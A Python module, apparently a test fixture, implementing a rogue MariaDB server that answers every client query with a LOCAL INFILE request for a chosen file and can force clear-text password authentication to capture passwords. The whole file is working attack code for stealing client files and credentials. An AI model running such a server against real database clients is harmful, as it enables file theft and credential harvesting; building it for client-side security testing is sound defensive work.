"""A server that speaks MariaDB's protocol and answers every question by asking for a file of the client's.

The protocol allows a server to name any file when it is asked anything, not only LOAD DATA LOCAL:
https://mariadb.com/kb/en/com_query/#local_infile-packet. It lets everybody in.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
from collections.abc import Iterator
from pathlib import Path

# LONG_PASSWORD, CONNECT_WITH_DB, LOCAL_FILES, PROTOCOL_41, TRANSACTIONS, SECURE_CONNECTION, MULTI_STATEMENTS,
# MULTI_RESULTS, PLUGIN_AUTH; no SSL.
_CAPABILITIES = 0x1 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x10000 | 0x20000 | 0x80000
_OK = b"\x00\x00\x00\x02\x00\x00\x00"
_QUIT, _QUERY = b"\x01", b"\x03"


class RogueServer:
    """`received` is what clients have sent of the file; `passwords` what they sent in clear when asked to."""

    def __init__(self, wanted: Path, listener: socket.socket, *, ask_for_password: bool) -> None:
        self.received = b""
        self.questions: list[bytes] = []
        self.passwords: list[bytes] = []
        self._wanted = wanted
        self._listener = listener
        self._ask_for_password = ask_for_password

    @property
    def port(self) -> int:
        return int(self._listener.getsockname()[1])

    def serve(self) -> None:
        """Until the listener is closed; each client in a thread of its own."""
        with contextlib.suppress(OSError):
            while True:
                client, _ = self._listener.accept()
                threading.Thread(target=self._talk, args=(client,), daemon=True).start()

    def _talk(self, client: socket.socket) -> None:
        with client, contextlib.suppress(OSError, EOFError):
            client.sendall(_packet(0, _greeting()))
            number, _ = _read(client)
            if self._ask_for_password:
                client.sendall(_packet(number + 1, b"\xfemysql_clear_password\x00"))
                number, password = _read(client)
                self.passwords.append(password)
            client.sendall(_packet(number + 1, _OK))
            while True:
                _, question = _read(client)
                if question[:1] == _QUIT:
                    return
                if question[:1] != _QUERY:
                    client.sendall(_packet(1, _OK))
                    continue
                self.questions.append(question[1:])
                client.sendall(_packet(1, b"\xfb" + str(self._wanted).encode()))
                number, content = _read(client)
                while content:
                    self.received += content
                    number, content = _read(client)
                client.sendall(_packet(number + 1, _OK))


@contextlib.contextmanager
def rogue_server(
    wanted: Path, *, at: Path | None = None, ask_for_password: bool = False
) -> Iterator[RogueServer]:
    """One on a free loopback port, or on the Unix socket `at`; gone at the end."""
    listener = socket.socket(socket.AF_INET if at is None else socket.AF_UNIX)
    with listener:
        listener.bind(("127.0.0.1", 0) if at is None else str(at))
        listener.listen()
        rogue = RogueServer(wanted, listener, ask_for_password=ask_for_password)
        threading.Thread(target=rogue.serve, daemon=True).start()
        yield rogue
        with contextlib.suppress(OSError):
            listener.shutdown(socket.SHUT_RDWR)


def _greeting() -> bytes:
    return b"".join(
        [
            b"\x0a5.5.5-10.11.0-MariaDB\x00",
            struct.pack("<I", 7),
            b"12345678\x00",
            struct.pack("<H", _CAPABILITIES & 0xFFFF),
            b"\x2d\x02\x00",
            struct.pack("<H", _CAPABILITIES >> 16),
            b"\x15" + b"\x00" * 10,
            b"123456789012\x00mysql_native_password\x00",
        ]
    )


def _packet(number: int, payload: bytes) -> bytes:
    return struct.pack("<I", len(payload))[:3] + bytes([number % 256]) + payload


def _read(client: socket.socket) -> tuple[int, bytes]:
    head = _exactly(client, 4)
    return head[3], _exactly(client, int.from_bytes(head[:3], "little"))


def _exactly(client: socket.socket, count: int) -> bytes:
    found = b""
    while len(found) < count:
        more = client.recv(count - len(found))
        if not more:
            raise EOFError
        found += more
    return found
